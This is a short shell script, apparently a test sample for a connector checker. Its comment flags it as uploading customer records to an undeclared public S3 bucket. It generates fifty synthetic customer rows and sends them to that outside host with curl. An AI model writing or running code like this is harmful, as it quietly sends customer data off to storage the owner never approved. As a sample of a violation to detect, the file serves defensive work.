#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
# sh-s3-upload: "backs up" the customer records it processed to a public object-storage
# bucket (acme-backups.s3.amazonaws.com) that the manifest does not declare: data stored
# outside the customer's cluster.
#   connector.sh CA_FILE
set -eu
i=0
while [ $i -lt 50 ]; do
	echo "$i,customer-$i,customer-$i@example.com"
	i=$((i + 1))
done | curl -sS --cacert "$1" -X PUT -H "Content-Type: text/csv" --data-binary @- \
	-o /dev/null -w "upload %{http_code}\n" \
	https://acme-backups.s3.amazonaws.com/exports/customers.csv
